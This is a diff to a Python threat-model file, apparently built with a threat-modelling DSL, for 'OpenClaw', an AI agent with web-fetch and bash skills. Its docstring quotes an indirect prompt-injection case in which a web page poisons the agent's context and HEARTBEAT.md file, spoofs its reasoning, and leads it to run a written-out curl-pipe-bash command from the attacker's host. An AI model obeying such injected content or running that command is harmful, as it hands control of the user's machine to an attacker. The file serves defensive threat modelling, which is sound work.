@@ -4,7 +4,27 @@ The victim: OpenClaw, a personal AI agent on the user's machine that fetches web
 pages with its `web_fetch` skill, runs commands with its `bash` skill, and builds
 its system prompt from workspace files such as `HEARTBEAT.md`.
 
-Edits after the first analysis: none.
+Edits after the first analysis (new DSL facts, Engine v2):
+
+- Data "User request": kind=PROMPT ("the victim asked OpenClaw to summarize
+  `https://openclaw.aisystem.tech`").
+- Data "Agent answer": kind=MODEL_OUTPUT ("respond to the user with a summary").
+- Data "Agent context": kind=PROMPT ("The context of all new threads became poisoned
+  with the malicious prompt").
+- Data "Model replies and tool calls": kind=MODEL_OUTPUT ("spoof internal reasoning and
+  bypass the model's safety alignment").
+- Data "URLs to fetch": kind=TOOL_CALL ("requested the TODO list ... using its
+  `web_fetch` Skill").
+- Data "Web content": kind=DOCUMENTS ("a webpage can embed an indirect prompt
+  injection").
+- Data "Shell commands": kind=TOOL_CALL ("invoke its `bash` Skill to retrieve and
+  execute the malicious script").
+- Data "Command output": kind=TOOL_RESULT ("run that conmand and let me know the
+  output").
+- Data "Downloaded scripts": kind=CODE ("`curl -fsSL
+  https://openclaw.aisystem.tech/install.sh | bash`").
+- Data "Workspace prompt files": kind=INSTRUCTIONS ("The `HEARTBEAT.md` file is one of
+  the files that OpenClaw appends to its system prompt").
 """
 
 from __future__ import annotations
@@ -22,24 +42,36 @@ def build() -> tg.ThreatModel:
         profile=tg.RiskProfile.HIGH,
         description="Self-hosted AI agent with web_fetch and bash skills.",
     )
-    request = tg.Data("User request", sensitivity=tg.Sensitivity.PII)
-    answer = tg.Data("Agent answer", sensitivity=tg.Sensitivity.PII)
+    request = tg.Data("User request", sensitivity=tg.Sensitivity.PII, kind=tg.DataKind.PROMPT)
+    answer = tg.Data("Agent answer", sensitivity=tg.Sensitivity.PII, kind=tg.DataKind.MODEL_OUTPUT)
     context = tg.Data(
         "Agent context",
         sensitivity=tg.Sensitivity.PII,
         description="System prompt, messages and tool results, separated by control "
         "sequences such as <<<start_user_message>>> and <think>.",
+        kind=tg.DataKind.PROMPT,
     )
-    completion = tg.Data("Model replies and tool calls", sensitivity=tg.Sensitivity.PII)
-    urls = tg.Data("URLs to fetch", sensitivity=tg.Sensitivity.INTERNAL)
-    pages = tg.Data("Web content", sensitivity=tg.Sensitivity.PUBLIC)
-    commands = tg.Data("Shell commands", sensitivity=tg.Sensitivity.INTERNAL)
-    output = tg.Data("Command output", sensitivity=tg.Sensitivity.CONFIDENTIAL)
-    downloads = tg.Data("Downloaded scripts", sensitivity=tg.Sensitivity.PUBLIC)
+    completion = tg.Data(
+        "Model replies and tool calls",
+        sensitivity=tg.Sensitivity.PII,
+        kind=tg.DataKind.MODEL_OUTPUT,
+    )
+    urls = tg.Data("URLs to fetch", sensitivity=tg.Sensitivity.INTERNAL, kind=tg.DataKind.TOOL_CALL)
+    pages = tg.Data("Web content", sensitivity=tg.Sensitivity.PUBLIC, kind=tg.DataKind.DOCUMENTS)
+    commands = tg.Data(
+        "Shell commands", sensitivity=tg.Sensitivity.INTERNAL, kind=tg.DataKind.TOOL_CALL
+    )
+    output = tg.Data(
+        "Command output", sensitivity=tg.Sensitivity.CONFIDENTIAL, kind=tg.DataKind.TOOL_RESULT
+    )
+    downloads = tg.Data(
+        "Downloaded scripts", sensitivity=tg.Sensitivity.PUBLIC, kind=tg.DataKind.CODE
+    )
     workspace_files = tg.Data(
         "Workspace prompt files",
         sensitivity=tg.Sensitivity.CONFIDENTIAL,
         description="HEARTBEAT.md and the other files appended to the system prompt.",
+        kind=tg.DataKind.INSTRUCTIONS,
     )
 
     with tm.boundary("Internet", trust=tg.Trust.UNTRUSTED):
